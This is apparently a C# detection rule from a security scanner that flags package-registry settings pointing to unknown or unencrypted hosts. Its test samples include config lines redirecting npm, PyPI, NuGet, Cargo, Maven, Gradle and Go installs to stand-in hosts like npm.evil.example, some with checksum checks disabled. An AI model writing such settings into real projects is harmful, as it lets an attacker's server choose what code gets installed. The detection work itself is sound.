using ApprovalGuard.Detection.AgentConfig.Commands;
using ApprovalGuard.Detection.AgentConfig.Reading;
using ApprovalGuard.Findings;

namespace ApprovalGuard.Detection.AgentConfig.Examiners.Packages;

/// <summary>Where packages come from: whoever answers there decides what is installed and built.</summary>
internal sealed class PackageSources : IExaminer
{
    private static readonly RuleInfo Rule = new()
    {
        Id = "package-registry",
        Category = Category.AgentConfig,
        Severity = Severity.High,
        Title = "package source",
        Why = "Whoever answers there decides what is installed, and code of packages runs at install and in production.",
        Do = "Check that the host is yours. Ask it for your own scope alone, over https.",
        Reference = "https://cwe.mitre.org/data/definitions/427.html",
        Positives =
        [
            new("registry=https://npm.evil.example/\n", ".npmrc"),
            new("@acme:registry=https://npm.acme.example/\n", ".npmrc"),
            new("[global]\nextra-index-url = https://pypi.evil.example/simple\n", "pip.conf"),
            new("--extra-index-url https://pypi.evil.example/simple\nflask\n", "requirements.txt"),
            new("<configuration><packageSources><add key=\"x\" value=\"http://nuget.evil.example/v3\" /></packageSources></configuration>\n", "nuget.config"),
            new("[source.crates-io]\nreplace-with = \"m\"\n[source.m]\nregistry = \"https://crates.evil.example/index\"\n", ".cargo/config.toml"),
            new("<settings><mirrors><mirror><url>https://maven.evil.example/</url></mirror></mirrors></settings>\n", ".mvn/settings.xml"),
            new("[install]\nregistry = \"https://npm.evil.example\"\n", "bunfig.toml"),
            new("npmRegistryServer: \"https://npm.evil.example\"\n", ".yarnrc.yml"),
            new("repositories {\n    maven { url 'http://maven.evil.example/' }\n}\n", "build.gradle"),
            new("source 'http://gems.evil.example'\n", "Gemfile"),
            new("GOPROXY=https://goproxy.evil.example,direct\nGOSUMDB=off\n", ".env"),
            new("export PIP_INDEX_URL=https://pypi.evil.example/simple\n", ".envrc"),
            new("distributionUrl=https\\://gradle.evil.example/gradle-8.5-bin.zip\n", "gradle/wrapper/gradle-wrapper.properties"),
        ],
        Negatives =
        [
            new("registry=https://registry.npmjs.org/\nsave-exact=true\n", ".npmrc"),
            new("index-url = https://pypi.org/simple\n", "pip.conf"),
            new("--extra-index-url https://download.pytorch.org/whl/cpu\n", "requirements.txt"),
            new("<configuration><packageSources><clear /><add key=\"nuget\" value=\"https://api.nuget.org/v3/index.json\" /></packageSources></configuration>\n", "NuGet.Config"),
            new("repositories {\n    mavenCentral()\n    maven { url 'https://repo.spring.io/milestone' }\n}\npom { url = 'https://acme.example' }\n", "build.gradle"),
            new("source 'https://rubygems.org'\n", "Gemfile"),
            new("distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\n", "gradle/wrapper/gradle-wrapper.properties"),
            new("<project><url>http://acme.example</url><repositories><repository><url>https://repo.maven.apache.org/maven2</url></repository></repositories></project>\n", "pom.xml"),
            new("registry=${NPM_REGISTRY}\n", ".npmrc"),
        ],
    };

    /// <inheritdoc/>
    public IReadOnlyList<RuleInfo> Rules => [Rule];

    /// <inheritdoc/>
    public IEnumerable<Remark> Look(ConfigFile file)
    {
        if (file.Kind is not (ConfigKind.Packages or ConfigKind.Environment))
        {
            yield break;
        }

        var sources = file.Format == ConfigFormat.Lines ? SourcesInLines.Of(file) : SourcesInSettings.Of(file);
        foreach (var source in sources)
        {
            if (Judge(source) is { } remark)
            {
                yield return remark;
            }
        }

        foreach (var (setting, words) in file.Format == ConfigFormat.Lines ? SourcesInLines.Unchecked(file) : SourcesInSettings.Unchecked(file))
        {
            yield return Remark.Ordinary(Rule, setting, Severity.Medium, words);
        }
    }

    private static Remark? Judge(PackageSource source)
    {
        var url = source.Url.Replace("\\:", ":", StringComparison.Ordinal).Replace("sparse+", "", StringComparison.Ordinal).Trim();
        if (Hosts.Of(url) is not { } host || Hosts.IsLocal(url))
        {
            return null;
        }

        var what = source.Role == SourceRole.Tool ? "the build tool comes" : source.Role == SourceRole.Scope ? "packages of a scope come" : "packages come";
        if (Hosts.IsPlain(url))
        {
            return Remark.Grave(Rule, source.Setting, Severity.High, $"{what} from {host}, without encryption");
        }

        if (Hosts.IsWithin(host, KnownSources.Domains))
        {
            return null;
        }

        return source.Role switch
        {
            SourceRole.Default => Remark.Ordinary(Rule, source.Setting, Severity.High, $"all packages come from {host}"),
            SourceRole.Extra => Remark.Ordinary(Rule, source.Setting, Severity.High, $"packages come from {host} as well, whichever version is higher"),
            SourceRole.Tool => Remark.Ordinary(Rule, source.Setting, Severity.High, $"{what} from {host}"),
            _ => Remark.New(Rule, source.Setting, Severity.Medium, $"{what} from {host}"),
        };
    }
}
